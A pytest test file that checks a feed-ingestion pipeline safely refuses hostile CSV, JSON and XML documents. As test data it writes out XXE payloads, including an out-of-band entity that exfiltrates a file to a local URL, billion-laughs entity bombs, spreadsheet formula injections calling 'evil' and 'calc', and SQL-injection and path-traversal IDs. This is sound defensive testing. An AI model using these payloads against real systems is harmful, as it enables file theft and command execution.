"""Hostile documents: each gives a clear FeedFormatError or a reject with a reason, reads nothing
from the machine, fetches nothing, expands nothing, does not crash and does not hang.

test_formats.py already covers the billion laughs in text, an external entity to /etc/passwd, an
external DTD and parameter entity to a file, deep XML and deep JSON arrays; these extend them.
"""

from __future__ import annotations

import json
import os
import socket
import time
from datetime import UTC, datetime
from pathlib import Path

import duckdb
import pandas as pd
import pyarrow as pa
import pytest

from connectors.formats import FeedFormatError, parse_csv_feed, parse_json_feed, parse_xml_feed
from pipelines.catalogue.build import build_catalogue, validate_sources
from pipelines.mapping.fields import map_source_fields
from pipelines.normalise.records import normalise_records
from pipelines.publish.database import build_duckdb
from pipelines.publish.release import publish_release, read_published, to_arrow, write_release
from pipelines.reading.registry import parse_registry
from pipelines.reading.sources import parse_document
from pipelines.validation.validate import ValidationResult, rejected_records, validate_records
from schemas.reads import ParsedFeed, SourceRead
from schemas.registry import Registry, Source
from schemas.tables import TABLES

FORMULA = "looks like a spreadsheet formula"


def registry(base_dir: Path = Path(".")) -> Registry:
    return parse_registry(
        {
            "providers": [{"id": "at-p", "name": "Provider", "country": "AT"}],
            "sources": [
                {
                    "id": "csv",
                    "provider": "at-p",
                    "url": "feed.csv",
                    "format": "csv",
                    "options": {"list_separator": ";"},
                    "mapping": {
                        "source_record_id": "id",
                        "title": "title",
                        "description": "description",
                        "learning_outcomes": "outcomes",
                    },
                },
                {
                    "id": "json",
                    "provider": "at-p",
                    "url": "feed.json",
                    "format": "json",
                    "mapping": {
                        "source_record_id": "id",
                        "title": "title",
                        "ects": "ects",
                        "workload_hours": "hours",
                        "price_amount": "price",
                        "learning_outcomes": "outcomes",
                    },
                },
                {
                    "id": "xml",
                    "provider": "at-p",
                    "url": "feed.xml",
                    "format": "xml",
                    "options": {"record": "item"},
                    "mapping": {"source_record_id": "@id", "title": "t", "description": "u"},
                },
            ],
        },
        base_dir,
    )


parse = parse_document  # exactly what the pipeline runs
REGISTRY = registry()
SOURCES = {s.id: s for s in REGISTRY.sources}


def validate(parsed: ParsedFeed, source: Source) -> ValidationResult:
    frame = map_source_fields(parsed, source).assign(source_id=source.id)
    normalised, problems = normalise_records(frame, REGISTRY)
    return validate_records(normalised, problems)


def outcome(body: bytes, source: Source) -> str:
    """Everything a document produces, as text: the error, or the records, accepted and
    rejected. Also checks that nothing was lost and the rejects can be published."""
    try:
        parsed = parse(body, source)
    except FeedFormatError as exc:
        assert str(exc)
        return f"error: {exc}"
    result = validate(parsed, source)
    assert_nothing_lost(parsed, result)
    to_arrow("rejects", result.rejects)  # publishable: valid UTF-8 text, right types
    return repr(parsed) + result.accepted.to_string() + result.rejects.to_string()


def assert_nothing_lost(parsed: ParsedFeed, result: ValidationResult) -> None:
    accepted = set(result.accepted["record_index"])
    rejected = set(rejected_records(result.rejects)["record_index"])
    assert accepted.isdisjoint(rejected)
    assert accepted | rejected == set(range(parsed.n_records + len(parsed.problems)))
    assert result.rejects["reason"].map(lambda r: isinstance(r, str) and r != "").all()
    assert result.rejects["field"].map(lambda f: isinstance(f, str) and f != "").all()


def rejects_of(result: ValidationResult) -> list[tuple[int, str, str, str | None]]:
    columns = ["record_index", "field", "reason", "value"]
    return [tuple(row) for row in result.rejects[columns].itertuples(index=False)]


# ------------------------------------------------------------------------ XML: nothing expanded


def _laughs_in_attribute(levels: int) -> bytes:
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, levels + 1)
    ]
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE feed [\n'
        + "\n".join(entities)
        + f']>\n<feed><item id="&lol{levels};"><t>x</t></item></feed>'
    ).encode()


@pytest.mark.parametrize("levels", [1, 2, 9])
def test_xml_entities_in_an_attribute_are_refused_not_expanded(levels):
    # libxml2 expands entity references when an attribute is read, even without
    # resolve_entities; the parser refuses them instead (large ones hit libxml2's limit first)
    started = time.monotonic()
    with pytest.raises(FeedFormatError, match=r"never expanded|amplification"):
        parse_xml_feed(_laughs_in_attribute(levels), record="item", fields=["@id", "t"])
    assert time.monotonic() - started < 2


def test_xml_declaring_an_entity_is_refused_even_when_no_field_reads_it():
    body = (
        b'<!DOCTYPE feed [<!ENTITY e "expanded">]>'
        b'<feed><item id="1" note="&e;"><t>a &amp; b &#233;</t></item></feed>'
    )
    with pytest.raises(FeedFormatError, match=r"declares entities \(&e;\)"):
        parse_xml_feed(body, record="item", fields=["@id", "t"])


def test_xml_character_references_and_predefined_entities_are_read():
    body = b'<feed><item id="1"><t>a &amp; b &#233; &lt;c&gt;</t></item></feed>'
    parsed = parse_xml_feed(body, record="item", fields=["@id", "t"])
    assert parsed.columns == {"@id": ["1"], "t": ["a & b é <c>"]}


@pytest.mark.parametrize("where", ["text", "attribute"])
def test_xml_quadratic_blowup_is_refused_quickly(where):
    big = "x" * 100_000
    references = "&a;" * 10_000
    item = f"<item><t>{references}</t></item>" if where == "text" else f'<item id="{references}"/>'
    body = f'<?xml version="1.0"?><!DOCTYPE feed [<!ENTITY a "{big}">]><feed>{item}</feed>'
    started = time.monotonic()
    try:
        parsed = parse_xml_feed(body.encode(), record="item", fields=["@id", "t"])
    except FeedFormatError as exc:
        assert "amplification" in str(exc) or "never expanded" in str(exc)
    else:  # text references may be kept as written, never expanded
        assert all(big not in str(v) for col in parsed.columns.values() for v in col)
    assert time.monotonic() - started < 2


# -------------------------------------------------------- XML: nothing read, nothing fetched


@pytest.fixture
def secret(tmp_path):
    path = tmp_path / "secret.txt"
    path.write_text("TOP-SECRET-7f3a9c", encoding="utf-8")
    return path


_ITEM = b"<item id='1'><t>title</t><u>%s</u></item>"
#: Documents that would read TARGET (a path or a URL) if the parser let them.
HOSTILE_XML = {
    "external entity in text": b'<!DOCTYPE feed [<!ENTITY x SYSTEM "TARGET">]><feed>'
    + _ITEM % b"&x;"
    + b"</feed>",
    "external entity in attribute": b'<!DOCTYPE feed [<!ENTITY x SYSTEM "TARGET">]>'
    b'<feed><item id="&x;"><t>t</t></item></feed>',
    "external DTD": b'<!DOCTYPE feed SYSTEM "TARGET"><feed>' + _ITEM % b"&x;" + b"</feed>",
    "parameter entity": b'<!DOCTYPE feed [<!ENTITY % p SYSTEM "TARGET"> %p;]><feed>'
    + _ITEM % b"&x;"
    + b"</feed>",
    "parameter entity out of band": b'<!DOCTYPE feed [<!ENTITY % f SYSTEM "TARGET">'
    b"<!ENTITY % e \"<!ENTITY &#x25; ex SYSTEM 'http://127.0.0.1:1/?%f;'>\"> %e; %ex;]>"
    b"<feed>" + _ITEM % b"x" + b"</feed>",
    "XInclude": b'<feed xmlns:xi="http://www.w3.org/2001/XInclude">'
    + _ITEM % b'<xi:include href="TARGET" parse="text"/>'
    + b"</feed>",
    "schema location": b'<feed xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    b' xsi:noNamespaceSchemaLocation="TARGET">' + _ITEM % b"x" + b"</feed>",
    "stylesheet": b'<?xml-stylesheet type="text/xsl" href="TARGET"?><feed>'
    + _ITEM % b"x"
    + b"</feed>",
}


def hostile_xml(kind: str, target: str) -> bytes:
    return HOSTILE_XML[kind].replace(b"TARGET", target.encode())


@pytest.mark.parametrize("kind", list(HOSTILE_XML))
@pytest.mark.parametrize("as_url", [False, True])
def test_xml_never_reads_a_local_file(secret, kind, as_url):
    target = secret.as_uri() if as_url else str(secret)
    body = hostile_xml(kind, target)
    assert target.encode() in body
    produced = outcome(body, SOURCES["xml"])
    assert "TOP-SECRET" not in produced


@pytest.fixture
def listener():
    """A socket on 127.0.0.1 that records any connection the parser would make. (The libxml2
    bundled with lxml 6 has no HTTP client at all; this guards against a change of parser or
    of its options, e.g. no_network=False with a libxml2 that has one.)"""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.bind(("127.0.0.1", 0))
        sock.listen(8)
        sock.settimeout(0.3)
        yield sock


@pytest.mark.parametrize("kind", list(HOSTILE_XML))
def test_xml_never_connects_anywhere(listener, kind):
    port = listener.getsockname()[1]
    body = hostile_xml(kind, f"http://127.0.0.1:{port}/x.dtd")
    started = time.monotonic()
    outcome(body, SOURCES["xml"])
    assert time.monotonic() - started < 2
    with pytest.raises(TimeoutError):  # nobody knocked
        listener.accept()


@pytest.mark.parametrize("kind", list(HOSTILE_XML))
def test_xml_url_where_nothing_listens_does_not_wait(kind):
    body = hostile_xml(kind, "http://127.0.0.1:1/x.dtd")
    started = time.monotonic()
    outcome(body, SOURCES["xml"])
    assert time.monotonic() - started < 1


def test_xml_xinclude_is_left_as_an_element():
    body = hostile_xml("XInclude", "/etc/passwd")
    parsed = parse_xml_feed(body, record="item", fields=["@id", "t", "u"])
    assert parsed.columns == {"@id": ["1"], "t": ["title"], "u": [None]}


def test_xml_internal_parameter_entity_defines_nothing():
    body = (
        b"<!DOCTYPE feed [<!ENTITY % p \"<!ENTITY q 'EXPANDED'>\"> %p;]>"
        b"<feed><item id='1'><t>a &q; b</t></item></feed>"
    )
    try:
        parsed = parse_xml_feed(body, record="item", fields=["t"])
    except FeedFormatError as exc:
        assert "EXPANDED" not in str(exc)
    else:
        assert "EXPANDED" not in str(parsed.columns)


# ------------------------------------------------------------------ XML: depth and size limits


def test_xml_nested_100000_levels_is_refused_quickly():
    depth = 100_000
    body = b"<feed><item><t>x</t>" + b"<a>" * depth + b"</a>" * depth + b"</item></feed>"
    started = time.monotonic()
    with pytest.raises(FeedFormatError, match="depth"):
        parse_xml_feed(body, record="item", fields=["t"])
    assert time.monotonic() - started < 2


def test_xml_large_text_within_libxml2_limit_is_read():
    text = b"y" * 9_000_000  # libxml2's limit without huge_tree is 10,000,000 bytes
    parsed = parse_xml_feed(
        b"<feed><item><t>" + text + b"</t></item></feed>", record="item", fields=["t"]
    )
    assert len(parsed.columns["t"][0]) == len(text)


@pytest.mark.parametrize("where", ["text", "attribute"])
def test_xml_text_over_libxml2_limit_is_refused_cleanly(where):
    huge = b"y" * 10_000_001
    item = b"<item><t>" + huge + b"</t></item>" if where == "text" else b'<item t="' + huge + b'"/>'
    with pytest.raises(FeedFormatError, match="limit"):
        parse_xml_feed(b"<feed>" + item + b"</feed>", record="item", fields=["t", "@t"])


# --------------------------------------------------------------------------------------- JSON


@pytest.mark.parametrize("depth", [5_000, 100_000])
@pytest.mark.parametrize("where", ["document", "value"])
def test_json_objects_nested_thousands_deep_are_refused(depth, where):
    nested = b'{"k":' * depth + b"1" + b"}" * depth
    body = nested if where == "document" else b'[{"id": "a", "title": ' + nested + b"}]"
    with pytest.raises(FeedFormatError, match="nested"):
        parse(body, SOURCES["json"])


def test_json_mixed_nesting_just_under_the_parser_limit_is_not_a_crash():
    depth = 450  # objects and arrays alternating: loads, then must still be read safely
    body = b'[{"id": "a", "title": ' + b'{"k": [' * depth + b"]}" * depth + b"}]"
    try:
        parsed = parse(body, SOURCES["json"])
    except FeedFormatError as exc:
        assert "nested" in str(exc)
    else:
        assert parsed.n_records == 1 and len(parsed.columns["title"][0]) <= 500


def test_json_huge_float_becomes_infinity_and_ects_drops_it():
    body = b'[{"id": "a", "title": "T", "ects": 1e400}, {"id": "b", "title": "T", "ects": -1e400}]'
    parsed = parse(body, SOURCES["json"])
    assert parsed.columns["ects"] == ["inf", "-inf"]
    result = validate(parsed, SOURCES["json"])
    assert result.accepted["ects"].isna().all()
    assert [(i, f, v) for i, f, _, v in rejects_of(result)] == [
        (0, "ects", "inf"),
        (1, "ects", "-inf"),
    ]
    assert set(result.rejects["severity"]) == {"warning"}


def test_json_huge_float_in_hours_or_price_is_dropped():
    body = b'[{"id": "a", "title": "T", "hours": 1e400, "price": 1e400}]'
    result = validate(parse(body, SOURCES["json"]), SOURCES["json"])
    kept = result.accepted.iloc[0]
    assert pd.isna(kept["workload_hours"]) and pd.isna(kept["price_amount"])
    assert set(result.rejects["reason"]) == {"not a finite number"}
    assert set(result.rejects["severity"]) == {"warning"}


def test_json_integer_over_python_digit_limit_is_a_format_error():
    # Python 3.11 refuses int <-> str conversions over 4300 digits with ValueError
    body = b'[{"id": "a", "title": "T", "ects": ' + b"9" * 10_000 + b"}]"
    with pytest.raises(FeedFormatError, match="4300 digits"):
        parse(body, SOURCES["json"])


def test_json_integer_under_python_digit_limit_is_a_reject():
    body = b'[{"id": "a", "title": "T", "ects": ' + b"9" * 4000 + b"}]"
    parsed = parse(body, SOURCES["json"])
    result = validate(parsed, SOURCES["json"])
    assert [(f, r) for _, f, r, _ in rejects_of(result)] == [("ects", "ECTS must be 1 to 59")]


def test_json_repeated_key_in_a_record_is_a_reject_naming_the_key():
    body = (
        b'[{"id": "a", "title": "First"}, {"id": "b", "title": "One", "title": "Two"},'
        b' {"id": "c", "title": "T", "outcomes": [{"text": "x", "text": "y"}]}]'
    )
    parsed = parse(body, SOURCES["json"])
    assert (parsed.columns["id"], parsed.columns["title"]) == (["a"], ["First"])
    assert [p.record_index for p in parsed.problems] == [1, 2]
    assert "'title' given twice" in parsed.problems[0].reason
    assert "'text' given twice" in parsed.problems[1].reason
    result = validate(parsed, SOURCES["json"])
    assert_nothing_lost(parsed, result)
    assert result.accepted["source_record_id"].tolist() == ["a"]


def test_json_repeated_records_key_fails_the_document():
    body = b'{"items": [{"id": "a"}], "items": [{"id": "b"}]}'
    with pytest.raises(FeedFormatError, match="'items' repeated"):
        parse_json_feed(body, records="items", fields=["id"])


def test_json_repeated_key_in_an_unread_part_of_the_envelope_does_not_matter():
    body = b'{"meta": {"v": 1, "v": 2}, "items": [{"id": "a"}]}'
    parsed = parse_json_feed(body, records="items", fields=["id"])
    assert parsed.columns == {"id": ["a"]} and parsed.problems == []


def test_json_nul_character_in_a_string_is_a_reject():
    body = b'[{"id": "a", "title": "ok"}, {"id": "b", "title": "bad\\u0000<script>"}]'
    result = validate(parse(body, SOURCES["json"]), SOURCES["json"])
    assert result.accepted["source_record_id"].tolist() == ["a"]
    assert rejects_of(result) == [
        (1, "record", "field 'title': text contains a NUL character", "bad\\x00<script>")
    ]


@pytest.mark.parametrize("escape", [b"\\ud800", b"\\udfff", b"x\\ud83dy"])
def test_json_lone_surrogate_is_a_reject_that_can_be_published(escape):
    body = b'[{"id": "a", "title": "ok"}, {"id": "b", "title": "' + escape + b'"},'
    body += b' {"id": "c' + escape + b'", "title": "ok"}, "' + escape + b'"]'
    parsed = parse(body, SOURCES["json"])
    produced = outcome(body, SOURCES["json"])  # mapping, ids and Parquet need UTF-8 text
    result = validate(parsed, SOURCES["json"])
    assert result.accepted["source_record_id"].tolist() == ["a"]
    reasons = [r for _, _, r, _ in rejects_of(result)]
    assert reasons == [
        "field 'title': text holds a lone surrogate, not Unicode",
        "field 'source_record_id': text holds a lone surrogate, not Unicode",
        "record is not a JSON object",
    ]
    assert escape.decode() in produced  # shown escaped, as written


def test_json_valid_surrogate_pair_is_text():
    parsed = parse(b'[{"id": "a", "title": "\\ud83d\\ude00"}]', SOURCES["json"])
    assert parsed.columns["title"] == ["\U0001f600"]
    assert len(validate(parsed, SOURCES["json"]).accepted) == 1


@pytest.mark.parametrize(
    "encode",
    [
        lambda text: b"\xef\xbb\xbf" + text.encode("utf-8"),
        lambda text: text.encode("utf-16"),  # with its byte order mark
        lambda text: text.encode("utf-16-le"),
        lambda text: text.encode("utf-16-be"),
        lambda text: text.encode("utf-32"),
    ],
    ids=["utf-8 BOM", "utf-16", "utf-16-le", "utf-16-be", "utf-32"],
)
def test_json_byte_order_mark_and_utf16_are_read(encode):
    text = json.dumps([{"id": "a", "title": "Qualitätssicherung €"}], ensure_ascii=False)
    parsed = parse(encode(text), SOURCES["json"])
    assert (parsed.columns["id"], parsed.columns["title"]) == (["a"], ["Qualitätssicherung €"])


# ---------------------------------------------------------------------------------------- CSV


def test_csv_rows_with_more_or_fewer_fields_are_rejects_and_counted():
    body = b"id,title,description,outcomes\n1,A,a,o\n2,B\n3,C,c,o,extra\n4,D,d,o\n"
    parsed = parse(body, SOURCES["csv"])
    result = validate(parsed, SOURCES["csv"])
    assert_nothing_lost(parsed, result)
    assert sorted(result.accepted["source_record_id"]) == ["1", "4"]
    found = {(f, r, v) for _, f, r, v in rejects_of(result)}
    assert found == {
        ("record", "row has 2 fields, the header has 4", "2,B"),
        ("record", "row has 5 fields, the header has 4", "3,C,c,o,extra"),
    }


@pytest.mark.parametrize(
    "body",
    [
        b'id,title,description,outcomes\n1,ok,,\n2,"bad\x00quoted",,\n3,bad\x00plain,,\n',
        b"id,title,description,outcomes\n1,ok,,\n2,\x00,,\n3,x\x00,,\n",
    ],
)
def test_csv_nul_bytes_make_rejects(body):
    # Decision: pyarrow reads NUL fine, Parquet and DuckDB store it, but it truncates text in
    # C-string consumers (PostgreSQL refuses it). Neither stripped (silent change) nor a failed
    # feed: the record is rejected with the field named and the value shown escaped.
    parsed = parse(body, SOURCES["csv"])
    result = validate(parsed, SOURCES["csv"])
    assert_nothing_lost(parsed, result)
    assert result.accepted["source_record_id"].tolist() == ["1"]
    rejects = rejects_of(result)
    assert [r for _, _, r, _ in rejects] == ["field 'title': text contains a NUL character"] * 2
    assert all("\x00" not in v and "\\x00" in v for _, _, _, v in rejects)


def test_csv_cp1252_bytes_declared_utf8_is_a_format_error_naming_the_encoding():
    body = "id,title\n1,Qualität\n2,Einführung\n".encode("cp1252")
    with pytest.raises(FeedFormatError, match=r"utf-8.*0xe4 in position 17"):
        parse_csv_feed(body, fields=["id", "title"])


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
def test_csv_cp1252_bytes_in_a_row_of_the_wrong_length_name_the_encoding():
    # pyarrow fails decoding the bad row's text for the handler and reports "Expected 2
    # columns, got 3": the real cause is the encoding
    body = "id,title\n1,a\n2,Einführung,x\n".encode("cp1252")
    with pytest.raises(FeedFormatError, match=r"utf-8.*can't decode byte 0xfc"):
        parse_csv_feed(body, fields=["id", "title"])


@pytest.mark.parametrize(
    "body",
    ["id,Qualität\n1,a\n".encode("cp1252"), "id,Qualität\n1,a\n".encode("utf-16-le")],
    ids=["cp1252", "utf-16"],
)
def test_csv_header_in_another_encoding_says_the_encoding_is_wrong(body):
    with pytest.raises(FeedFormatError, match=r"not utf-8 text: is options\.encoding right"):
        parse_csv_feed(body, fields=["id", "Qualität"])


def test_csv_utf8_declared_cp1252_is_mojibake_and_cannot_be_detected():
    # Every byte is a valid cp1252 character: the document reads, wrongly. Documented limit:
    # only the provider's declared encoding can tell, so the registry must state it right.
    body = "id,title\n1,Einführung\n".encode()
    parsed = parse_csv_feed(body, encoding="cp1252", fields=["id", "title"])
    assert parsed.columns["title"] == ["EinfÃ¼hrung"]


def test_csv_old_mac_line_endings_are_read():
    parsed = parse_csv_feed(b'id,title\r1,a\r2,"b\rc"\r', fields=["id", "title"])
    assert parsed.columns == {"id": ["1", "2"], "title": ["a", "b\rc"]}


def test_csv_unreadable_header_is_a_format_error():
    with pytest.raises(FeedFormatError):
        parse_csv_feed(b'"id,title\n1,a\n', fields=["id"])


FORMULAS = [
    '=HYPERLINK("http://evil","x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "-SUM(A1:A9)",
    "  =1+1",
]
NOT_FORMULAS = [
    "- understands X",
    "- self-paced and hands-on",
    "- Python (advanced)",
    "-",
    "Data = information",
    "Uses @mentions",
    "C++ basics",
]


@pytest.mark.parametrize("field", ["title", "description", "outcomes"])
def test_csv_formula_looking_values_are_rejects(field):
    header = "id,title,description,outcomes\n"
    rows = [
        {"id": f"r{i}", "title": "Title", "description": "", "outcomes": "ok"}
        for i in range(len(FORMULAS) + len(NOT_FORMULAS))
    ]
    for row, value in zip(rows, FORMULAS + NOT_FORMULAS, strict=True):
        row[field] = value if field != "outcomes" else f"fine;{value}"
    body = header + "".join(
        ",".join('"' + row[c].replace('"', '""') + '"' for c in header.strip().split(",")) + "\n"
        for row in rows
    )
    parsed = parse(body.encode(), SOURCES["csv"])
    result = validate(parsed, SOURCES["csv"])
    assert_nothing_lost(parsed, result)
    field_name = "learning_outcomes" if field == "outcomes" else field
    assert rejects_of(result) == [
        (i, field_name, FORMULA, value.strip()) for i, value in enumerate(FORMULAS)
    ]
    if field == "title":  # no title, no record
        assert len(result.accepted) == len(NOT_FORMULAS)
        assert set(result.rejects["severity"]) == {"error"}
        return
    assert len(result.accepted) == len(FORMULAS) + len(NOT_FORMULAS)
    assert set(result.rejects["severity"]) == {"warning"}
    kept = result.accepted.set_index("record_index")[field_name]
    for i in range(len(FORMULAS)):  # the formula went, the rest of the value stayed
        if field == "outcomes":
            assert kept[i] == ["fine"], kept[i]
        else:
            assert pd.isna(kept[i]), kept[i]
    assert kept[len(FORMULAS)] == (
        ["fine", NOT_FORMULAS[0]] if field == "outcomes" else NOT_FORMULAS[0]
    )


def test_formula_values_in_every_free_text_field_are_reported_and_never_kept():
    fields = [
        "title",
        "description",
        "provider_name",
        "awarding_body_name",
        "assessment_type",
        "quality_assurance",
        "access_requirements",
        "nqf_level",
        "sqf",
        "url",
        "learning_outcomes",
        "stackable_into",
    ]
    rows = [{"title": "T", "source_record_id": f"r{i}"} for i in range(len(fields))]
    for row, field in zip(rows, fields, strict=True):
        value = "=1+1"
        row[field] = ["fine", value] if field in ("learning_outcomes", "stackable_into") else value
    frame = pd.DataFrame(rows).assign(source_id="csv", record_index=range(len(rows)))
    normalised, problems = normalise_records(frame, REGISTRY)
    result = validate_records(normalised, problems)
    # no title or no provider: the record goes; any other field: the value goes
    assert sorted(rejected_records(result.rejects)["record_index"]) == [0, 2]
    formula = result.rejects[result.rejects["reason"] == FORMULA]
    assert formula[["record_index", "field", "value"]].values.tolist() == [
        [i, field, "=1+1"] for i, field in enumerate(fields)
    ]
    kept = result.accepted.to_dict("records")
    assert all("=1+1" not in str(value) for record in kept for value in record.values())


# ------------------------------------------------------- ids that look like paths or SQL, end to end

HOSTILE_IDS = [
    "../../x",
    "/etc/passwd",
    "C:\\Windows",
    "..\\..\\x",
    "x'); DROP TABLE microcredentials; --",
    'x"; DROP TABLE lineage; --',
]


def _listing(folder: Path) -> set[str]:
    return set(os.listdir(folder))


def test_hostile_record_ids_are_just_strings_end_to_end(tmp_path):
    outside = {tmp_path.parent: _listing(tmp_path.parent), Path.cwd(): _listing(Path.cwd())}
    feeds = tmp_path / "feeds"
    feeds.mkdir()
    reg = registry(base_dir=feeds)
    source = next(s for s in reg.sources if s.id == "csv")
    rows = "".join(
        '"' + rid.replace('"', '""') + f'","Title {n} \'); DROP TABLE rejects; --",,\n'
        for n, rid in enumerate(HOSTILE_IDS)
    )
    parsed = parse(("id,title,description,outcomes\n" + rows).encode(), source)
    read = SourceRead(source.id, "ok", records=map_source_fields(parsed, source))
    result = validate_sources([read], reg)
    assert result.rejects.empty
    tables = build_catalogue(result, [read], reg, datetime.now(UTC))
    out = tmp_path / "catalogue"
    release = write_release(tables.as_dict(), out, "run-1")
    publish_release(out, release)
    database = build_duckdb(out)

    assert sorted(read_published(out)["lineage"]["source_record_id"]) == sorted(HOSTILE_IDS)
    with duckdb.connect(str(database), read_only=True) as con:
        stored = con.execute("SELECT source_record_id FROM lineage").fetchall()
        assert sorted(r[0] for r in stored) == sorted(HOSTILE_IDS)
        names = {r[0] for r in con.execute("SELECT table_name FROM duckdb_tables()").fetchall()}
        views = {r[0] for r in con.execute("SELECT view_name FROM duckdb_views()").fetchall()}
        assert set(TABLES) <= names
        assert {"latest_feed_status", "code_coverage"} <= views
        assert con.execute("SELECT count(*) FROM microcredentials").fetchone() == (
            len(HOSTILE_IDS),
        )
    for folder, before in outside.items():
        assert _listing(folder) == before, folder
    assert _listing(tmp_path) == {"feeds", "catalogue"}
    assert not (tmp_path.parent / "x").exists() and not (out.parent.parent / "x").exists()


def test_rejects_table_of_hostile_documents_is_publishable():
    bodies = [
        (b'[{"id": "\\ud800", "title": "\\u0000"}, {"id": "a", "id": "b"}, 1]', "json"),
        (b"id,title,description,outcomes\n\x00,=1,,\n2\n", "csv"),
    ]
    for body, source_id in bodies:
        result = validate(parse(body, SOURCES[source_id]), SOURCES[source_id])
        table = to_arrow("rejects", result.rejects)
        assert isinstance(table, pa.Table) and table.num_rows == len(result.rejects) > 0
